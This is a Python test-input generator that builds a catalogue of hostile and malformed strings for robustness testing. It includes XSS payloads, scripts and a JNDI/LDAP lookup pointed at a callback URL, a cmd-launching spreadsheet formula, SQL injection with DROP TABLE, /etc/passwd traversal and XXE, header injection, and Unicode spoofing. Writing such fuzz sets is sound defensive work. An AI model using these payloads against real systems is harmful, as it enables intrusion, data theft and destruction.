"""Texts as somebody who means harm, or an odd keyboard, would send them."""

from __future__ import annotations

import json
import random

SCRIPT = "alert(document.domain)"


def pieces(url: str) -> dict[str, str]:
    """By what each is; `url`: an address that notices whoever asks it."""
    return {
        "script": f"<script>{SCRIPT}</script>",
        "script from elsewhere": f"<script src={url}/x.js></script>",
        "picture": f"<img src={url}/x.png onerror={SCRIPT}>",
        "svg": f"<svg onload={SCRIPT}><image href='{url}/x.svg'/></svg>",
        "out of an attribute": f"\" autofocus onfocus={SCRIPT} x='",
        "out of a script": f"</script><script>{SCRIPT}//",
        "out of a style": f"</style><style>@import '{url}/x.css';",
        "out of a text area": f"</textarea><iframe src='{url}/x.html'></iframe>",
        "comment": f"--><b onmouseover={SCRIPT}>b</b><!--",
        "script address": f"javascript:{SCRIPT}",
        "markdown link": f"[click](javascript:{SCRIPT}) ![x]({url}/x.png)",
        "markdown html": f"<details open ontoggle={SCRIPT}>",
        "css": f"x{{background:url({url}/x.gif)}}",
        "base": f"<base href={url}/><link rel=prefetch href={url}/y>",
        "refresh": f"<meta http-equiv=refresh content='0;url={url}/z'>",
        "template": "{{7*7}} ${7*7} #{7*7} {% raw %} <%= 7*7 %> {0.__class__} %s%n",
        "formula": "=cmd|' /C calc'!A0",
        "formula that asks": f'=WEBSERVICE("{url}/x")',
        "formulas": "+1+1|@SUM(1)|-2+3|\t=1+1",
        "sql": "'; DROP TABLE ballots; -- \" OR 1=1",
        "path": "../../../../etc/passwd",
        "windows path": "..\\..\\C:\\CON.png",
        "absolute path": "/etc/cron.d/x",
        "colour": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J",
        "eight bit escapes": "\x9b31m\x90q\x9c",
        "backspace": "a\b\b\bb\x7f",
        "nul": "a\x00b",
        "half of a pair": "a\ud83db\udc00",
        "not a character": "\ufffe\uffff\U0010ffff",
        "right to left": "\u202etxt.exe\u202c \u2066x\u2069 \u05d0\u05d1",
        "zero width": "a\u200b\u200d\u2060\ufeffb",
        "marks": "Z" + "\u0301\u0327\u0489" * 60,
        "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🎬",
        "line ends": "a\r\nb\rc\x0bd\x0ce\x85f\u2028g\u2029h",
        "event": "\n001  AX V C 00:00:00:00 00:00:00:01 00:00:00:00 00:00:00:01\n* FROM CLIP NAME: x",
        "columns": "a\tb\tc\nHeading\nData\n",
        "json": json.dumps({"verdict": "left", "x": ['"']}) + "\\u0000\\",
        "xml": "]]><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;&#0;</a>",
        "log": "\n2026-01-01 00:00:00 error admin logged in\n",
        "lookup": f"${{jndi:ldap://{url.removeprefix('http://')}/a}}",
        "header": f"x\r\nSet-Cookie: a=b\r\nLocation: {url}",
        "long": "wörd " * 780,
        "too long": "x" * 100_000,
        "blanks": " \u00a0\u3000\t\n ",
        "word": "null",
        "number": "1e-20000000",
        "address": f"{url}/plain",
    }


def texts(count: int, seed: int, url: str) -> list[str]:
    """Each piece by itself, and then several of them one after the other."""
    known = list(pieces(url).values())
    chance = random.Random(seed)
    single = chance.sample(known, min(count, len(known)))
    mixed = [chance.choice(("", " ", "\n")).join(chance.sample(known, chance.randrange(2, 5))) for _ in range(count)]
    return [*single, *mixed][:count]
